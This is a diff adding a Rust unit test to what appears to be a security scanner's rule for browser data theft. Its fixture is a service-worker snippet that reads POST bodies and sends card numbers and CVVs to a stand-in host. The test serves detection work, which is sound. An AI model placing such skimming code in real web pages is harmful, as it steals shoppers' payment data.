@@ -630,6 +630,20 @@ mod tests {
         );
     }
 
+    /// The same through the worker's `onfetch` property, the body read with `json()`.
+    #[test]
+    fn positive_service_worker_onfetch_property() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "sw.js",
+                "self.onfetch = function (e) {\n  if (e.request.method !== 'POST') return;\n  e.waitUntil(e.request.clone().json().then(function (b) {\n    fetch('https://t.example.com/c', { method: 'POST', body: JSON.stringify({ u: e.request.url, card: b.cardNumber, cvv: b.cvv }) });\n  }));\n};\n",
+            ),
+        ]);
+        let f = crate::rules::test_util::finding(&s, "code/browser-data-theft");
+        assert_eq!(f.line, 4);
+    }
+
     /// The benign look-alike: an offline-caching worker fetches the intercepted request
     /// itself and caches the response.
     #[test]
